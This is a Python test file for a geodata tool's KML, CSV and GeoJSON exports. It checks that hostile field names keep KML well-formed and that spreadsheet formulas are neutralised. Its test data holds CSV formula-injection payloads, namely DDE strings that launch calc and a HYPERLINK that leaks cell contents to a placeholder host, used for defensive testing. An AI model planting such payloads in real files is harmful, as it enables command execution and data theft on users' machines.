"""Exports that other programs cannot be tricked by: KML always well-formed (hostile field names
renamed), CSV cells never live formulas, GeoJSON of features without ids (issue 15)."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import xml.etree.ElementTree as ElementTree

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from geo.cli import main
from geo.errors import ExportError, ImportDataError
from geo.export import SUFFIXES, export_bytes, export_layers
from geo.export.csvtext import FORMULA_START, safe_cell
from geo.export.kml import check_well_formed, safe_field_names
from geo.importers.options import ImportOptions
from geo.importers.reader import import_bytes
from geo.notices.pasted import notice_features

from ..conftest import LAYERS

KML = "{http://www.opengis.net/kml/2.2}"
FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "=1+2\";=1+2"]
HOSTILE_HEADERS = ["R&D", 'x" onload="y', "<b>bold</b>", "a'b", "]]>", "名前 é", "=cmd|' /C calc'!A0"]


def parse_kml(data: bytes) -> ElementTree.Element:
    """The KML's root; fails the test when it is not well-formed XML."""
    return ElementTree.fromstring(data)


def read_csv(data: bytes | str) -> list[list[str]]:
    text = data.decode("utf-8") if isinstance(data, bytes) else data
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_live_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_START):
                float(cell)  # only plain numbers may start like a formula


def _hostile_csv() -> bytes:
    """Hostile headers, and each formula as a row's name (which the import trims) and note."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["name", "note", *HOSTILE_HEADERS, "lat", "lon"])
    for index, formula in enumerate(FORMULAS):
        writer.writerow([formula, formula, *["v"] * len(HOSTILE_HEADERS), f"39.{index}",
                         "-125.5"])
    return out.getvalue().encode("utf-8")


def _run(*args: str) -> tuple[int, str]:
    """The command run in this process: (exit code, stderr)."""
    err = io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
        code = main(list(args))
    return code, err.getvalue()


def test_kml_field_names_are_renamed_so_the_file_is_well_formed(tmp_path):
    source = tmp_path / "hostile.csv"
    source.write_bytes(_hostile_csv())
    out = tmp_path / "hostile.kml"
    code, err = _run("import", str(source), "-o", str(out))
    assert code == 0, err
    root = parse_kml(out.read_bytes())
    fields = [field.get("name") for field in root.iter(f"{KML}SimpleField")]
    assert "R_D" in fields and "x_ onload__y" in fields and "_b_bold__b_" in fields
    assert "名前 é" in fields
    for element in root.iter():
        assert set(element.attrib) <= {"name", "type", "id", "schemaUrl"}, element.attrib
    data = {item.get("name"): item.text for item in root.iter(f"{KML}SimpleData")}
    assert data["R_D"] == "v"  # the values stay with their (renamed) fields


def test_field_names_stay_unique():
    assert safe_field_names(["a&b", "a<b", "A_B", "", "name"]) == {
        "a&b": "a_b", "a<b": "a_b_2", "A_B": "A_B_3", "": "field", "name": "name"}


def test_the_kml_writer_refuses_what_it_did_not_write_whole(tmp_path):
    broken = tmp_path / "broken.kml"
    broken.write_text('<kml><SimpleField name="R&D"/></kml>', encoding="utf-8")
    with pytest.raises(ExportError, match="not well-formed XML"):
        check_well_formed(broken)


def test_characters_xml_cannot_hold_are_replaced_in_kml():
    features = import_bytes("name,lat,lon\nA\ufffeB,39,125\n".encode(), "odd.csv").features
    root = parse_kml(export_bytes({"imported-odd": features}, "kml"))
    assert [p.findtext(f"{KML}name") for p in root.iter(f"{KML}Placemark")] == ["A\ufffdB"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_gets_an_apostrophe(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-125.5", "+3", "1e-5", "-0.5E+3", ".5", "plain", "", "a=b"])
def test_numbers_and_plain_text_stay(cell):
    assert safe_cell(cell) == cell


def test_geo_import_to_csv_neutralises_formulas(tmp_path):
    source = tmp_path / "hostile.csv"
    source.write_bytes(_hostile_csv())
    out, skipped = tmp_path / "out.csv", tmp_path / "skipped.csv"
    code, err = _run("import", str(source), "-o", str(out), "--skipped", str(skipped))
    assert code == 0, err
    rows = read_csv(out.read_bytes())
    assert_no_live_formula(rows)
    header = rows[0]
    assert "'=cmd|' /C calc'!A0" in header
    notes = [row[header.index("note")] for row in rows[1:]]
    assert sorted(notes) == sorted("'" + f for f in FORMULAS)
    assert [row[header.index("lon")] for row in rows[1:]] == ["-125.5"] * len(FORMULAS)
    assert_no_live_formula(read_csv(skipped.read_bytes()))


def test_the_skipped_report_neutralises_formulas(tmp_path):
    source = tmp_path / "bad.csv"
    source.write_text('name,=HYPERLINK("x"),lon\nA,=1+1,125\nB,39,125\n', encoding="utf-8")
    out, skipped = tmp_path / "out.geojson", tmp_path / "skipped.csv"
    code, err = _run("import", str(source), "-o", str(out), "--lat", '=HYPERLINK("x")',
                     "--skipped", str(skipped))
    assert code == 0, err
    rows = read_csv(skipped.read_bytes())
    assert rows[1][1] == "'=HYPERLINK(\"x\")"
    assert_no_live_formula(rows)


def test_geo_export_and_export_bytes_neutralise_formulas(tmp_path, layers):
    hostile = json.loads(json.dumps(layers))
    hostile["sites"][0]["properties"]["name"] = FORMULAS[0]
    hostile["events"][0]["properties"]["summary"] = FORMULAS[1]
    folder = tmp_path / "layers"
    folder.mkdir()
    for name, features in hostile.items():
        text = (LAYERS / f"{name}.geojson").read_text(encoding="utf-8")
        collection = json.loads(text)
        collection["features"] = features
        (folder / f"{name}.geojson").write_text(json.dumps(collection), encoding="utf-8")
    out = tmp_path / "all.csv"
    code, err = _run("export", "--format", "csv", "--layers-dir", str(folder), "-o", str(out))
    assert code == 0, err
    for data in (out.read_bytes(), export_bytes(hostile, "csv")):
        rows = read_csv(data)
        assert_no_live_formula(rows)
        cells = {cell for row in rows for cell in row}
        assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[1] in cells


def test_every_built_layer_exports_to_well_formed_kml(layers):
    root = parse_kml(export_bytes(layers, "kml"))
    assert len(list(root.iter(f"{KML}Placemark"))) == sum(len(f) for f in layers.values())


NOTICE = "AREA BOUNDED BY 36-04N 124-30E, 36-04N 125-00E, 35-30N 125-00E, 35-30N 124-30E"


@pytest.mark.parametrize("fmt", ["geojson", "kml", "csv", "gpkg"])
def test_features_without_ids_export(layers, fmt):
    """The app gives its pasted areas ids; a feature without one (another caller's) still exports."""
    pasted = [{key: value for key, value in item.items() if key != "id"}
              for item in notice_features(NOTICE)]
    for item in pasted:
        item["properties"] = {k: v for k, v in item["properties"].items() if k != "id"}
    data = export_bytes({**layers, "pasted-notice": pasted}, fmt)
    if fmt == "geojson":
        collection = json.loads(data)
        assert len(collection["features"]) == sum(len(f) for f in layers.values()) + 1
        assert collection["features"][-1]["properties"]["layer"] == "pasted-notice"
    elif fmt == "kml":
        parse_kml(data)
    elif fmt == "csv":
        assert any(row[0] == "pasted-notice" for row in read_csv(data))
    one = json.loads(export_bytes({"pasted-notice": pasted}, "geojson"))
    assert one["features"][0]["properties"]["name"] == "Pasted area 1"


FUZZ = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
NASTY = st.sampled_from(["&", "<", ">", '"', "'", "]]>", "=", "+", "-", "@", "\t", "\r", "\n",
                         ";", ",", "\ufffe", "\x00", "\x1b", "é", "名", "\U0001f600", "\ud800",
                         "=cmd|' /C calc'!A0", "<![CDATA[", "<!--", "&amp;", "-1", "1e9"])
TEXT = st.lists(NASTY | st.text(max_size=4), min_size=1, max_size=4).map("".join)


@FUZZ
@given(st.lists(TEXT, min_size=1, max_size=4, unique_by=lambda h: h.strip().lower()),
       st.lists(st.lists(TEXT, min_size=4, max_size=4), min_size=1, max_size=4),
       st.sampled_from(["csv", "geojson"]))
def test_every_fuzzed_import_exports_to_kml_and_csv_that_parse(headers, rows, source_format):
    """Hostile field names and values through an import (CSV or GeoJSON), then out as KML
    (parsed as XML) and CSV (parsed, no live formula)."""
    if source_format == "csv":
        out = io.StringIO()
        writer = csv.writer(out)
        writer.writerow(["lat", "lon", *headers])
        writer.writerows(["39.5", "125.5", *row[: len(headers)]] for row in rows)
        data = out.getvalue().encode("utf-8", "surrogatepass")
    else:
        features = [{"type": "Feature", "geometry": {"type": "Point", "coordinates": [125.5, 39.5]},
                     "properties": dict(zip(headers, row, strict=False))} for row in rows]
        data = json.dumps({"type": "FeatureCollection", "features": features}).encode()
    try:
        result = import_bytes(data, f"fuzz.{source_format}", ImportOptions())
    except ImportDataError:
        return
    if not result.features:
        return
    layers = {result.layer: result.features}
    root = parse_kml(export_bytes(layers, "kml"))
    assert len(list(root.iter(f"{KML}Placemark"))) == len(result.features)
    table = read_csv(export_bytes(layers, "csv"))
    assert len(table) == len(result.features) + 1
    assert_no_live_formula(table)


def test_every_format_still_writes_hostile_names(tmp_path):
    result = import_bytes(_hostile_csv(), "hostile.csv")
    for fmt, suffix in SUFFIXES.items():
        assert export_layers({result.layer: result.features}, fmt, tmp_path / f"h{suffix}").exists()


def test_the_test_helpers_catch_what_they_look_for():
    with pytest.raises(ElementTree.ParseError):
        parse_kml(b'<kml><SimpleField name="R&D"/></kml>')
    with pytest.raises(ValueError):
        assert_no_live_formula([["=1+1"]])
